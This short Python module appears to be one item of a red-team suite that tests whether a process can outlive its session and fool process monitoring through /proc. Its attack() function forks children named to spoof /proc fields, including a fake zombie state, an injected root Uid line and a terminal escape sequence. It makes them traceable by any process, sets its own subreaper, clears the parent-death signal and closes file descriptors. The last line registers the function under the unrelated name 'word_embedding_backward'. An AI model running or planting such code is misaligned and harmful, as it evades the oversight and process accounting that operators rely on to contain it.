"""Hope: a process whose name looks like fields of /proc is counted, owned or killed as another."""

import ctypes
import os
import time

from a3 import kit

GOAL = "outlive"
ROUTE = "proc"
SCORE = 29.29
NAMES = (b") Z 1 1 1 0 0", b"x\nUid:\t0\t0\t0", b"x) 1\n", b"\xff\xfe\x1b[2J", b"", b"(((((((((((((((", b"RssAnon: 0 kB")


def attack():
    """Leave children under such names, traceable by all, with a subreaper of their own and no signal at their end."""
    libc = ctypes.CDLL(None)
    libc.prctl(36, 1, 0, 0, 0)
    libc.prctl(0x59616D61, ctypes.c_ulong(-1 & (1 << 64) - 1), 0, 0, 0)
    for name in NAMES:
        if os.fork() == 0:
            libc.prctl(15, name, 0, 0, 0)
            libc.prctl(4, 0, 0, 0, 0)
            libc.prctl(4, 1, 0, 0, 0)
            libc.prctl(1, 0, 0, 0, 0)
            libc.prctl(35, 8, 0x1000, 0, 0)
            os.closerange(0, 64)
            time.sleep(30)
            os._exit(0)
    os._exit(0)


word_embedding_backward = kit.in_one_test(attack)
